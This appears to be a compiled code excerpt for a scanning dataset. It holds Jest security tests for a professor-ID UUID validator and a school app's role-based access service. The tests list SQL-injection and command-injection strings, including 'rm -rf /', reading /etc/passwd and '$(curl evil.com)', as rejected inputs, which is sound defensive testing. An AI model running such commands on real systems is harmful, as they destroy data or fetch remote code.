// Sources (the index gave no repository names):
//   part 1: professor-review site, Jest security tests for isValidProfessorId, read_file index id 55831203618 (excerpt)
//   part 2: school wellbeing app, SecureDataAccessService (Supabase), read_file index id 4768180801 (whole file)
// Classes: decoy-only (no label: any finding here is a false positive). SQL-injection payloads handed to
//   a validator under test (`"'; DROP TABLE professors--"`, `"' UNION SELECT * FROM users--"`,
//   `"1; DELETE FROM reviews WHERE '1'='1"`) and inside `runTest(…)` descriptions and calls: strings passed to
//   a function under test, never to a database (README-A decision 5); a TypeScript union type
//   `'SELECT' | 'INSERT' | 'UPDATE' | 'DELETE'`; `switch` on table-like names ('mental_health_alerts',
//   'students'); a log template `Data access: ${operation} on ${resource}`; console texts
//   ('SQL Injection Prevention Tests'); JSDoc and comments; command-injection / XSS / path payloads.
// Adaptations: part 1 keeps the imports, the validator, the "Valid UUIDs", "SQL Injection Prevention" and
//   "Command Injection Prevention" describe blocks and the hand-run "SQL Injection Prevention" /
//   "Command Injection" runTest section with the summary; the SSRF, invalid-format, edge-case, XSS and
//   special-character blocks were dropped. Part 2 follows unchanged (its leading blank line dropped).

/**
 * Security Tests for Professor ID Validation
 * Tests the isValidProfessorId function to ensure it properly blocks malicious inputs
 */

import { describe, it, expect } from '@jest/globals';
import { supabase } from '@/integrations/supabase/client';
import { enhancedSecurityValidationService } from './enhancedSecurityValidationService';

// ---- part 1 (id 55831203618) ----
/**
 * Copy of the validation function from [id].tsx for testing
 * In production, this should be extracted to a shared utility file
 */
function isValidProfessorId(id: string | string[] | undefined): id is string {
  if (!id || typeof id !== 'string') {
    return false;
  }
  
  // UUID v4 format: xxxxxxxx-xxxx-4xxx-yxxx-xxxxxxxxxxxx
  const uuidV4Regex = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/i;
  
  return uuidV4Regex.test(id);
}

describe('Professor ID Validation - Security Tests', () => {
  describe('Valid UUIDs', () => {
    it('should accept valid UUID v4', () => {
      const validUUIDs = [
        '550e8400-e29b-41d4-a716-446655440000',
        '6ba7b810-9dad-41d1-80b4-00c04fd430c8',
        'f47ac10b-58cc-4372-a567-0e02b2c3d479',
        '123e4567-e89b-42d3-a456-426614174000',
      ];

      validUUIDs.forEach(uuid => {
        expect(isValidProfessorId(uuid)).toBe(true);
      });
    });
  });

  describe('SQL Injection Prevention', () => {
    it('should reject SQL injection attempts', () => {
      const sqlInjections = [
        "'; DROP TABLE professors--",
        "1' OR '1'='1",
        "admin'--",
        "' UNION SELECT * FROM users--",
        "1; DELETE FROM reviews WHERE '1'='1",
      ];

      sqlInjections.forEach(injection => {
        expect(isValidProfessorId(injection)).toBe(false);
      });
    });
  });

  describe('Command Injection Prevention', () => {
    it('should reject command injection attempts', () => {
      const commandInjections = [
        '; ls -la',
        '| cat /etc/passwd',
        '&& rm -rf /',
        '`whoami`',
        '$(curl evil.com)',
      ];

      commandInjections.forEach(injection => {
        expect(isValidProfessorId(injection)).toBe(false);
      });
    });
  });
});

// Run the tests and log results
console.log('🧪 Running Professor ID Validation Security Tests...\n');

let totalTests = 0;
let passedTests = 0;
let failedTests = 0;

const runTest = (description: string, testFn: () => void) => {
  totalTests++;
  try {
    testFn();
    passedTests++;
    console.log(`✅ ${description}`);
  } catch (error) {
    failedTests++;
    console.log(`❌ ${description}`);
    console.log(`   Error: ${error}`);
  }
};

// SQL Injection Prevention
console.log('\n💉 SQL Injection Prevention Tests:');
runTest("Block SQL injection ('; DROP TABLE--)", () => {
  const blocked = !isValidProfessorId("'; DROP TABLE professors--");
  if (!blocked) throw new Error('Should block SQL injection');
});

runTest("Block SQL injection (1' OR '1'='1)", () => {
  const blocked = !isValidProfessorId("1' OR '1'='1");
  if (!blocked) throw new Error('Should block SQL injection');
});

// Command Injection
console.log('\n⚡ Command Injection Prevention Tests:');
runTest('Block command injection (; ls -la)', () => {
  const blocked = !isValidProfessorId('; ls -la');
  if (!blocked) throw new Error('Should block command injection');
});

// Summary
console.log('\n' + '='.repeat(50));
console.log('📊 Test Summary:');
console.log('='.repeat(50));
console.log(`Total Tests: ${totalTests}`);
console.log(`✅ Passed: ${passedTests}`);
console.log(`❌ Failed: ${failedTests}`);
console.log(`Success Rate: ${((passedTests / totalTests) * 100).toFixed(1)}%`);
console.log('='.repeat(50));

if (failedTests === 0) {
  console.log('\n🎉 All security tests passed! The validation is working correctly.');
} else {
  console.log('\n⚠️  Some tests failed. Please review the validation logic.');
  process.exit(1);
}

// ---- part 2 (id 4768180801) ----
interface AccessContext {
  userId: string;
  userRole?: string;
  userSchool: string;
  userType: 'teacher' | 'student' | 'admin';
}

class SecureDataAccessService {
  async validateAccess(
    resource: string,
    operation: 'SELECT' | 'INSERT' | 'UPDATE' | 'DELETE',
    context: AccessContext
  ): Promise<boolean> {
    try {
      // Basic access validation logic
      switch (resource) {
        case 'mental_health_alerts':
          return context.userType === 'teacher' && 
                 (context.userRole === 'doctor' || context.userRole === 'admin');
        
        case 'students':
          return context.userType === 'teacher' || context.userType === 'admin';
        
        case 'feedback':
          return true; // All authenticated users can access feedback
        
        default:
          return context.userType === 'teacher' || context.userType === 'admin';
      }
    } catch (error) {
      console.error('Access validation error:', error);
      return false;
    }
  }

  async logDataAccess(
    resource: string,
    operation: string,
    context: AccessContext
  ): Promise<void> {
    try {
      await enhancedSecurityValidationService.logSecurityEvent({
        type: 'session_error',
        userId: context.userId,
        details: `Data access: ${operation} on ${resource}`,
        severity: 'low'
      });
    } catch (error) {
      console.error('Failed to log data access:', error);
    }
  }
}

export const secureDataAccessService = new SecureDataAccessService();
